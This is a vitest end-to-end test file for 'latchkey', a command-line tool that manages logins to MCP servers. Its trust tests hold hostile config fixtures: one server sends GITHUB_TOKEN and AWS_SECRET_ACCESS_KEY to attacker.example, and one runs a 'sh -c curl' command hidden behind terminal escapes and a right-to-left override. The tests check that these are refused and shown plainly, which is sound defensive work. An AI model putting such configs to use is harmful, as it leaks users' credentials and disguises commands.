import { spawn } from 'node:child_process'
import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type AuthorizationServer, startAuthorizationServer } from './fixtures/authorization-server.ts'
import { type BuiltCommand, buildCommand, createHome, finished, type Home } from './fixtures/built-command.ts'
import { type McpServerFixture, startMcpServer } from './fixtures/mcp-server.ts'
import { startProtectedServer } from './fixtures/protected-server.ts'
import { changeStoredLogins, expired } from './fixtures/stored-logins.ts'
import { freePort } from './fixtures/workbench.ts'

const stdioServer = fileURLToPath(new URL('./fixtures/stdio-server.mjs', import.meta.url))

let command: BuiltCommand
let as: AuthorizationServer
let demo: McpServerFixture
let other: McpServerFixture
let bearer: McpServerFixture
let open: McpServerFixture
let home: Home
let config: object

beforeAll(async () => {
  command = await buildCommand()
  as = await startAuthorizationServer()
  const image = { name: 'steer', call: () => 'a\u001b[8mb\tc\nd' }
  demo = await startProtectedServer(as, { tools: [image] })
  other = await startProtectedServer(as)
  bearer = await startMcpServer({ protect: { kind: 'bearer', token: 'right-token' } })
  open = await startMcpServer()
  config = {
    mcpServers: {
      demo: { url: demo.url },
      fresh: { url: other.url },
      api: { url: bearer.url, auth: 'right-token' },
      wrong: { url: bearer.url, auth: 'wrong-token' },
      open: { url: open.url, auth: false },
      files: { command: process.execPath, args: [stdioServer] },
      down: { url: `http://127.0.0.1:${await freePort()}/mcp`, auth: 'x' },
      off: { url: 'https://off.example.com/mcp', disabled: true },
    },
  }
})
afterAll(async () => {
  await Promise.all([demo, other, bearer, open, as].map((server) => server.close()))
  await command.remove()
})

beforeEach(async () => {
  home = await createHome()
  await home.configure(config)
})
afterEach(() => {
  as.intercept = undefined
  rmSync(home.path, { recursive: true, force: true, maxRetries: 5 })
})

const run = (...args: string[]) => command.run(args, home)
const signIn = (server = 'demo', ...more: string[]) =>
  run('login', server, '--interactive', 'always', ...more)
const storeHome = () => join(home.path, '.mcp_use')

interface Row {
  args: string[]
  code: number
  /** The whole of stdout, or what it contains. */
  stdout?: string | RegExp
  stderr?: string | RegExp
  /** What the document of `--json` contains. */
  json: object
}

const ROWS: Row[] = [
  {
    args: ['status', 'demo'],
    code: 0,
    stdout:
      /^demo: signed in\n {2}url {7}http.*\n {2}method {4}OAuth, client registered automatically\n {2}account {3}\(unnamed\)\n/,
    json: { servers: [{ server: 'demo', state: 'signed_in', refreshable: true, next: '', disabled: false }] },
  },
  {
    args: ['status', 'fresh'],
    code: 4,
    stdout: /^fresh: not signed in\n[\s\S]*next {6}latchkey login fresh\n$/,
    json: { servers: [{ server: 'fresh', state: 'signed_out', next: 'latchkey login fresh' }] },
  },
  {
    args: ['status', 'dmeo'],
    code: 2,
    stdout: '',
    stderr: /There is no server "dmeo"[\s\S]*Did you mean demo\?[\s\S]*\(server_unknown\)/,
    json: { error: { code: 'server_unknown', server: 'dmeo' } },
  },
  {
    args: ['status', 'files'],
    code: 0,
    stdout: /a program on this machine/,
    json: { servers: [{ method: 'stdio' }] },
  },
  {
    args: ['tools', 'demo'],
    code: 0,
    stdout: /^echo text=<string>\n {4}Gives the text back\n\nwhoami\n/,
    stderr: '',
    json: { tools: [{ name: 'echo' }, { name: 'whoami' }, { name: 'steer' }] },
  },
  { args: ['tools', 'files'], code: 0, stdout: /echo/, json: { tools: [{ name: 'echo' }, { name: 'env' }] } },
  {
    args: ['tools', 'wrong'],
    code: 5,
    stdout: '',
    stderr: '(credential_refused)',
    json: { error: { code: 'credential_refused', status: 401 } },
  },
  {
    args: ['tools', 'down'],
    code: 3,
    stdout: '',
    stderr: '(network_failed)',
    json: { error: { code: 'network_failed' } },
  },
  {
    args: ['tools', 'fresh'],
    code: 4,
    stdout: '',
    stderr: /\n {2}Run: latchkey login fresh\n {2}\(login_required\)\n$/,
    json: { error: { code: 'login_required', server: 'fresh', remedy: 'Run: latchkey login fresh' } },
  },
  {
    args: ['call', 'demo', 'whoami'],
    code: 0,
    stdout: 'alice\n',
    stderr: '',
    json: { content: [{ type: 'text', text: 'alice' }] },
  },
  {
    args: ['call', 'demo', 'echo', 'text=1 2'],
    code: 0,
    stdout: '1 2\n',
    json: { content: [{ text: '1 2' }] },
  },
  {
    args: ['call', 'open', 'echo', '{"text": "x"}'],
    code: 0,
    stdout: 'x\n',
    json: { content: [{ text: 'x' }] },
  },
  {
    args: ['call', 'demo', 'echo'],
    code: 1,
    stdout: /text/,
    stderr: 'echo reported an error.',
    json: { isError: true },
  },
  {
    args: ['call', 'demo', 'ecoh', 'text=x'],
    code: 2,
    stdout: '',
    stderr: /has no tool "ecoh"[\s\S]*Did you mean echo\?/,
    json: { error: { code: 'usage' } },
  },
  {
    args: ['call', 'demo', 'ecoh'],
    code: 1,
    stdout: '',
    stderr: '(mcp_error -32602)',
    json: { error: { code: 'mcp_error', mcp_code: -32602 } },
  },
  {
    args: ['call', 'demo', 'echo', 'text'],
    code: 2,
    stdout: '',
    stderr: '(usage)',
    json: { error: { code: 'usage' } },
  },
  {
    args: ['token', 'demo'],
    code: 0,
    stdout: /^[\w.-]{20,}\n$/,
    stderr: '',
    json: { expires_at: expect.any(Number) },
  },
  {
    args: ['token', 'api'],
    code: 0,
    stdout: 'right-token\n',
    stderr: '',
    json: { access_token: 'right-token' },
  },
  {
    args: ['token', 'open'],
    code: 2,
    stdout: '',
    stderr: '(config_invalid)',
    json: { error: { code: 'config_invalid' } },
  },
  {
    args: ['token', 'fresh'],
    code: 4,
    stdout: '',
    stderr: '(login_required)',
    json: { error: { code: 'login_required' } },
  },
  {
    args: ['login', 'files'],
    code: 1,
    stdout: '',
    stderr: '(unsupported)',
    json: { error: { code: 'unsupported' } },
  },
  {
    args: ['login', 'api'],
    code: 2,
    stdout: '',
    stderr: 'bearer credential',
    json: { error: { code: 'config_invalid' } },
  },
  {
    args: ['login', 'demo', '--callback-port', '99999'],
    code: 2,
    stdout: '',
    stderr: 'auth.callback_port: found 99999',
    json: { error: { code: 'config_invalid', key: 'auth.callback_port' } },
  },
  {
    args: ['token', 'api', '--client-id', 'x'],
    code: 2,
    stdout: '',
    stderr: 'no use for --client-id',
    json: { error: { code: 'config_invalid' } },
  },
  {
    args: ['login', 'demo', '--timeout', 'soon'],
    code: 2,
    stderr: '--timeout',
    json: { error: { code: 'usage' } },
  },
  {
    args: ['login', 'demo', '--interactive', 'x'],
    code: 2,
    stderr: '--interactive',
    json: { error: { code: 'usage' } },
  },
  {
    args: ['logout', 'fresh'],
    code: 0,
    stdout: 'Not signed in to fresh.\n',
    json: { outcome: 'not signed in' },
  },
  {
    args: ['trust', 'absent.json'],
    code: 2,
    stdout: '',
    stderr: 'does not exist',
    json: { error: { code: 'config_invalid' } },
  },
  { args: ['trust', '--list'], code: 0, stdout: 'No file is trusted.\n', json: { files: [] } },
  {
    args: ['lgoin'],
    code: 2,
    stdout: '',
    stderr: 'Did you mean: latchkey login',
    json: { error: { code: 'usage' } },
  },
  {
    args: ['login', 'demo', '--foce'],
    code: 2,
    stderr: 'Did you mean: --force',
    json: { error: { code: 'usage' } },
  },
]

describe('every command: exit code, stdout and stderr', () => {
  // None of the rows changes what is stored: one login serves them all.
  let shared: Home
  beforeAll(async () => {
    shared = await createHome()
    await shared.configure(config)
    const { code } = await command.run(['login', 'demo', '--interactive', 'always'], shared)
    expect(code).toBe(0)
  })
  afterAll(() => rmSync(shared.path, { recursive: true, force: true, maxRetries: 5 }))

  test.each(ROWS)('latchkey $args', async ({ args, code, stdout, stderr, json }) => {
    const text = await command.run(args, shared)
    expect(text.code).toBe(code)
    matches(text.stdout, stdout)
    matches(text.stderr, stderr)

    const document = await command.run([...args, '--json'], shared)
    expect(document.code).toBe(code)
    // One document and nothing else.
    expect(JSON.parse(document.stdout)).toMatchObject(json)
    // Errors are for people as well, whoever reads the document.
    if (stderr instanceof RegExp || stderr !== '') matches(document.stderr, stderr)
  })
})

function matches(printed: string, expected: string | RegExp | undefined): void {
  if (expected instanceof RegExp) expect(printed).toMatch(expected)
  else if (expected === '') expect(printed).toBe('')
  else if (expected?.endsWith('\n')) expect(printed).toBe(expected)
  else if (expected !== undefined) expect(printed).toContain(expected)
}

test('two accounts at one URL, neither of them in the config: each is shown, and ends by itself', async () => {
  await signIn()
  await signIn('demo', '--account', 'alice')
  await signIn('demo', '--account', 'bob')
  const shown = JSON.parse((await run('status', 'demo', '--json')).stdout).servers
  expect(
    shown.map(({ account, state }: { account: string; state: string }) => [account, state]).sort(),
  ).toEqual([
    [null, 'signed_in'],
    ['alice', 'signed_in'],
    ['bob', 'signed_in'],
  ])
  expect(new Set(shown.map(({ client_id }: { client_id: string }) => client_id)).size).toBe(3)
  expect((await run('status', 'demo')).stdout.match(/^ {2}account .*$/gm)).toHaveLength(3)
  expect((await run('logout', 'demo', '--account', 'alice')).stdout).toContain(
    '(account alice): revoked there',
  )
  const left = JSON.parse((await run('status', 'demo', '--json')).stdout).servers
  expect(left.map(({ account }: { account: string }) => account)).toEqual([null, 'bob'])
  expect((await run('call', 'demo', 'whoami', '--account', 'bob')).code).toBe(0)
  expect((await run('call', 'demo', 'whoami', '--account', 'alice')).code).toBe(4)
})

describe('status of everything', () => {
  test('shows each server in config order, then stored logins of URLs; a server never signed in to is no reason to act', async () => {
    await signIn()
    await signIn(other.url, '--account', 'work')
    const requests = demo.requests.length + as.requests.length
    const { code, stdout } = await run('status')
    expect(code).toBe(0)
    const headings = stdout.split('\n').filter((line) => /^\S/.test(line))
    expect(headings).toEqual([
      'demo: signed in',
      'fresh: not signed in',
      'api: configured',
      'wrong: configured',
      'open: configured',
      'files: configured',
      'down: configured',
      'off: not signed in (disabled)',
      // An account that is not in the config, of a server that is.
      'fresh: signed in',
    ])
    expect(stdout).toContain('account   work')
    for (const line of stdout.split('\n'))
      if (!/stored|url|program/.test(line)) expect(line.length).toBeLessThan(81)
    expect(stdout).not.toMatch(/right-token|wrong-token/)
    expect(demo.requests.length + as.requests.length).toBe(requests)
  })

  test('a login that is over is a reason to act, one that renews itself is not', async () => {
    await signIn()
    await changeStoredLogins(storeHome(), expired)
    const renewable = await run('status', '--json')
    expect(renewable.code).toBe(0)
    expect(JSON.parse(renewable.stdout).servers[0]).toMatchObject({ state: 'expired_refreshable', next: '' })

    await changeStoredLogins(storeHome(), ({ refresh_token: _, ...record }) => expired(record))
    const over = await run('status')
    expect(over.code).toBe(4)
    expect(over.stdout).toMatch(/^demo: login expired\n/)
    expect(over.stdout).toMatch(/expires {3}60 s ago|expires {3}6\d s ago/)
    expect(over.stdout).toContain('next      latchkey login demo\n')
  })

  test('an entry that cannot be used says so beside the others: exit 2', async () => {
    await home.configure({
      mcpServers: {
        good: { url: open.url, auth: false },
        typo: { url: 'https://typo.example.com/mcp', auth: { client_idd: 'x' } },
      },
    })
    const { code, stdout } = await run('status')
    expect(code).toBe(2)
    expect(stdout).toContain('good: configured')
    expect(stdout).toMatch(
      /typo: cannot be used\n[\s\S]*client_idd: unknown key\.\n {2}next {6}Did you mean `client_id`\?/,
    )
  })

  test('nothing at all says how to begin', async () => {
    await home.configure({ mcpServers: {} })
    const { code, stdout } = await run('status')
    expect(code).toBe(0)
    expect(stdout).toContain('latchkey login https://')
  })
})

describe('logout', () => {
  test('[REF-13] revokes, deletes, and leaves other servers alone', async () => {
    await signIn()
    await signIn('fresh')
    const { code, stdout } = await run('logout', 'demo')
    expect({ code, stdout }).toEqual({
      code: 0,
      stdout: 'Signed out of demo: revoked there, deleted here.\n',
    })
    expect(as.requests.to('/token/revocation').length).toBeGreaterThan(0)
    expect((await run('status', 'demo')).code).toBe(4)
    expect((await run('status', 'fresh')).code).toBe(0)
  })

  test('the server is away: deleted here, said that it was not revoked, exit 1', async () => {
    await signIn()
    as.intercept = ({ pathname }) => (pathname === '/token/revocation' ? { status: 500 } : undefined)
    const { code, stdout } = await run('logout', 'demo', '--json')
    expect(code).toBe(1)
    expect(JSON.parse(stdout)).toMatchObject({ outcome: 'failed', revoked: false })
    expect((await run('status', 'demo')).code).toBe(4)
  })

  test('--all ends every stored login, also of a URL and of accounts, and reports each', async () => {
    await signIn()
    await signIn('demo', '--account', 'work')
    await signIn(other.url)
    await home.configure({ mcpServers: { demo: { url: demo.url } } })
    const { code, stdout } = await run('logout', '--all')
    expect(code).toBe(0)
    expect(stdout.trimEnd().split('\n').sort()).toEqual(
      [
        'Signed out of demo: revoked there, deleted here.',
        `Signed out of demo (account work): revoked there, deleted here.`,
        `Signed out of ${other.url}: revoked there, deleted here.`,
      ].sort(),
    )
    expect((await run('logout', '--all')).stdout).toBe('No login is stored.\n')
  })
})

test('token renews what is about to expire', async () => {
  await signIn()
  const before = (await run('token', 'demo')).stdout
  await changeStoredLogins(storeHome(), expired)
  const { code, stdout, stderr } = await run('token', demo.url)
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
  expect(stdout).not.toBe(before)
  expect(stdout).toBe((await run('token', 'demo')).stdout)
})

test('call takes its arguments from standard input', async () => {
  const { stdout } = await command.run(['call', 'open', 'echo', '-'], home, { input: '{"text": "piped"}' })
  expect(stdout).toBe('piped\n')
})

test('another program gets every byte of an answer', async () => {
  await signIn()
  expect((await run('call', 'demo', 'steer')).stdout).toBe('a\u001b[8mb\tc\nd\n')
})

describe('config files', () => {
  const mcpJson = () => join(home.path, 'mcp.json')
  const writeProject = (): void =>
    writeFileSync(mcpJson(), JSON.stringify({ mcpServers: { project: { url: open.url, auth: false } } }))

  test('--config and LATCHKEY_CONFIG stand alone; what they name must be there', async () => {
    const file = join(home.path, 'other.json')
    writeFileSync(file, JSON.stringify({ mcpServers: { only: { url: open.url } } }))
    expect((await run('status', 'only', '--config', file)).stdout).toContain(
      `latchkey login only --config ${file}`,
    )
    const env = { LATCHKEY_CONFIG: file }
    expect((await command.run(['status', 'only'], home, { env })).code).toBe(4)
    expect((await command.run(['status', 'demo'], home, { env })).code).toBe(2)
    const absent = await run('status', '--config', `${file}.absent`)
    expect(absent.code).toBe(2)
    expect(absent.stderr).toContain(`${file}.absent does not exist`)
  })

  test('--config takes what another program writes into a pipe, which is trusted no more than a file', async () => {
    const through = async (server: object) => {
      const script = 'exec "$0" "$1" tools only --config <(printf %s "$2")'
      const text = JSON.stringify({ mcpServers: { only: server } })
      return finished(
        spawn('bash', ['-c', script, process.execPath, command.bin, text], { env: home.env, stdio: 'pipe' }),
      )
    }
    expect(await through({ url: open.url, auth: false })).toMatchObject({
      code: 0,
      stdout: expect.stringContaining('whoami'),
    })
    expect(await through({ url: open.url, auth: '${HOME}' })).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('/dev/fd/'),
    })
  })

  test('the error that asks for a login names the same config file', async () => {
    const file = join(home.path, 'my servers.json')
    writeFileSync(file, JSON.stringify({ mcpServers: { only: { url: demo.url } } }))
    expect((await run('tools', 'only', '--config', file)).stderr).toContain(
      `Run: latchkey login only --config '${file}'\n`,
    )
  })

  test('one in the working directory counts once it is trusted, and no more when it changes', async () => {
    writeProject()
    const before = await run('status', 'project')
    expect(before.code).toBe(2)
    expect(before.stderr).toContain(`latchkey trust ${mcpJson()}`)
    expect((await run('status')).stderr).toContain(`latchkey trust ${mcpJson()}`)

    const trusted = await run('trust', 'mcp.json')
    expect(trusted.stdout).toContain('Its servers: project.')
    expect((await run('status', 'project')).code).toBe(0)
    // The user's own servers are still there.
    expect((await run('status', 'api')).code).toBe(0)
    expect((await run('trust', '--list')).stdout).toContain(mcpJson())

    writeFileSync(
      mcpJson(),
      JSON.stringify({ mcpServers: { project: { url: 'https://evil.example.com/mcp' } } }),
    )
    expect((await run('status', 'project')).code).toBe(2)
  })

  test('trust is taken back', async () => {
    writeProject()
    await run('trust', 'mcp.json')
    expect((await run('trust', 'mcp.json', '--forget')).stdout).toContain('no longer trusted')
    expect((await run('status', 'project')).code).toBe(2)
  })

  test('S21: what a file gets with its trust is shown, and its text cannot pose as ours', async () => {
    const url = 'https://attacker.example/mcp'
    const servers = {
      'a\tb "c"': { url, headers: { X: '${GITHUB_TOKEN} ${AWS_SECRET_ACCESS_KEY}' } },
      run: { command: 'sh', args: ['-c', 'curl x\n\u001b[2K\u202eTrusted'] },
    }
    writeFileSync(mcpJson(), JSON.stringify({ mcpServers: servers }))
    const refused = await run('tools', 'run', '--config', mcpJson())
    expect(refused.code).toBe(2)
    expect(refused.stderr).toContain('starts a program on this machine')
    const { stdout } = await run('trust', 'mcp.json')
    expect(stdout).toContain('"a\\tb \\"c\\"" sends requests to attacker.example\n')
    expect(stdout).toContain('gets the variables GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY\n')
    expect(stdout).toContain('run starts, with your environment, sh -c "curl x\\n\\u001b[2K\\u202eTrusted"\n')
    expect(stdout).not.toMatch(/\u001b|\u202e/)
  })

  test('a file without servers is not trusted by mistake', async () => {
    writeFileSync(mcpJson(), '{ "name": "package" }')
    expect((await run('trust', 'mcp.json')).code).toBe(2)
    expect((await run('trust', '--list')).stdout).toBe('No file is trusted.\n')
  })

  test('a secret as plain text in a git working tree is warned about once', async () => {
    mkdirSync(join(home.path, '.git'))
    const { stderr } = await run('token', 'api')
    expect(stderr.match(/secret|plain text/g)?.length).toBeGreaterThan(0)
    expect(stderr.match(/latchkey: warning/g)).toHaveLength(1)
    expect(stderr).toContain('mcpServers.api.auth')
    expect(stderr).not.toContain('right-token')
  })

  test('an unset variable as auth is an error, not a browser', async () => {
    await home.configure({ mcpServers: { x: { url: demo.url, auth: `\${NOT_SET_ANYWHERE}` } } })
    const { code, stderr } = await run('tools', 'x', '--interactive', 'always')
    expect(code).toBe(2)
    expect(stderr).toContain('NOT_SET_ANYWHERE')
  })

  test('a URL works although the config file is broken', async () => {
    writeFileSync(join(home.path, '.config', 'latchkey', 'mcp.json'), '{')
    const { code, stdout, stderr } = await run('call', open.url, 'whoami')
    expect({ code, stdout }).toEqual({ code: 0, stdout: 'anonymous\n' })
    expect(stderr).toContain('warning')
  })

  test('a URL gets the settings of the configured server', async () => {
    expect((await run('call', bearer.url, 'whoami')).code).toBe(2)
    await home.configure({ mcpServers: { api: { url: bearer.url, auth: 'right-token' } } })
    expect((await run('call', bearer.url, 'whoami')).code).toBe(0)
  })
})

describe('answered by the small entry itself', () => {
  test.each([
    [['--version'], /^\d+\.\d+\.\d+\n$/],
    [['--help'], /latchkey login SERVER/],
    [['help', 'login'], /--client-secret-env NAME/],
    [['logout', '--help'], /--all ends every login/],
    [['status', 'x', '-h'], /Exit code 4/],
  ])('%j', async (args, stdout) => {
    const answer = await run(...args)
    expect(answer).toMatchObject({ code: 0, stderr: '' })
    expect(answer.stdout).toMatch(stdout)
    for (const line of answer.stdout.split('\n')) expect(line.length).toBeLessThan(100)
  })

  test('a reader that leaves early is no failure', async () => {
    const child = command.start(['--help'], home)
    child.stdout?.destroy()
    expect(await new Promise((resolve) => child.once('exit', resolve))).toBe(0)
  })
})
